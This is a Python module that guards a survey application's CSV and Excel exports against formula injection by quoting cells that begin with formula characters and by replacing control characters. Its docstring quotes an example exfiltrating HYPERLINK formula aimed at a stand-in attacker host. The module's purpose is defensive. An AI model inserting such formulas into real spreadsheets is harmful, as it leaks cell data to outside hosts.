"""Text that came from outside Koe (answers, comments, contact fields, tags): the
characters refused where it comes in, and how every exporter writes it.

Formulas. A spreadsheet may run a cell that begins with ``=``, ``+``, ``-``, ``@``,
a tab or a CR as a formula (OWASP's list): a respondent's comment
``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would become a live link in
the owner's Excel ("CSV injection"). As OWASP advises, ``spreadsheet_text`` puts a
``'`` before such a text, so it is shown, never run. The full-width forms
``＝ ＋ － ＠`` count too: LibreOffice 7.4 reads them as text, but Excel with a
Japanese input method may take a full-width ``＝`` for ``=``, and a stray ``'``
before a rare comment costs less than a formula that runs. A text that already
begins with ``'`` and one of those characters gets one more ``'``, so
``from_spreadsheet`` (a file Koe wrote, read back: the contacts import) can take
exactly one off and give back what was stored, whatever it was.

Control characters. NUL, ESC and their kind are in no language anyone types; an
Excel file cannot hold them at all. A form refuses them (``has_control_characters``)
and the contacts import sets such a value aside; what is stored already (from an
older version, a synced host, a hand-edited file) is still exported, each such
character written as U+FFFD, the replacement character, so the reader sees that
something was there. Tab and newline are text; CR is kept as stored.

Pure Python, no I/O: the respondent form (surveys.questions), the exports
(storage) and the contacts import and export (channels) all import it, and
dependencies point from them to surveys.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

# What a spreadsheet may read as the start of a formula (OWASP's list, and the
# full-width forms a Japanese input method types).
FORMULA_STARTS = "=+-@\t\r＝＋－＠"
QUOTE = "'"
REPLACEMENT = "\ufffd"

_STARTS = re.escape(FORMULA_STARTS)
# C0 controls but tab, LF and CR; DEL; C1 controls; U+FFFE and U+FFFF, which XML
# (an .xlsx) cannot hold either.
_CONTROLS = "\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff"
_CONTROL = re.compile(f"[{_CONTROLS}]")
# One search tells whether a text needs any work: most need none.
_unsafe = re.compile(f"^'*[{_STARTS}]|[{_CONTROLS}]").search
# In CSV text (comma-separated): a cell that begins, quoted or not, with a formula
# start (csv quotes every cell holding a CR, so a bare CR ends a line). Two plain
# searches run three times faster than one with ``^|`` in it.
_UNQUOTED_STARTS = re.escape(FORMULA_STARTS.replace("\r", ""))
_csv_cell_start = re.compile(f"[,\\n](?:\"'*[{_STARTS}]|'*[{_UNQUOTED_STARTS}])").search
_control = _CONTROL.search
_NEEDS_QUOTE = re.compile(f"'*[{_STARTS}]")
_QUOTED = re.compile(f"'+[{_STARTS}]")


def normalise_newlines(text: str) -> str:
    """Line breaks as ``\\n``: a browser posts a textarea's with CR LF."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def has_control_characters(text: str) -> bool:
    """True when ``text`` holds a character no one means to type (tab, LF and CR
    are text: a line break)."""
    return _control(text) is not None


def without_control_characters(text: str) -> str:
    """``text`` with its control characters taken out (what a form shows again)."""
    return _CONTROL.sub("", text)


def marked_control_characters(text: str) -> str:
    """``text`` with each control character shown as U+FFFD (what a report shows)."""
    return _CONTROL.sub(REPLACEMENT, text)


def spreadsheet_text(text: str) -> str:
    """``text`` as a CSV or Excel cell: never a formula, no control character."""
    return _made_safe(text) if _unsafe(text) else text


def spreadsheet_row(values: Iterable[object]) -> list[object]:
    """A row of cells: each text through ``spreadsheet_text``; numbers, dates and
    empty cells as they are (a score of -1 stays the number -1)."""
    # Inlined: an export calls this for every row of a million.
    return [_made_safe(v) if type(v) is str and _unsafe(v) else v for v in values]


def _made_safe(text: str) -> str:
    text = marked_control_characters(text)
    return QUOTE + text if _NEEDS_QUOTE.match(text) else text


def csv_may_need_marks(csv_text: str) -> bool:
    """False when no cell of ``csv_text`` (rows written by ``csv.writer`` with a
    comma) needs ``spreadsheet_text``: a whole batch of rows checked at C speed.

    True for every text ``spreadsheet_text`` would change, and for a few it would
    not (a comma or line break inside a quoted text before ``-``): it may only
    ever send a batch to be checked cell by cell for nothing.
    """
    return _control(csv_text) is not None or _csv_cell_start("\n" + csv_text) is not None


def from_spreadsheet(text: str) -> str:
    """The text ``spreadsheet_text`` was given, from a cell it wrote: the ``'`` it
    added taken off. A cell it did not mark (``'Tis``) is returned as it is."""
    return text[1:] if _QUOTED.match(text) else text
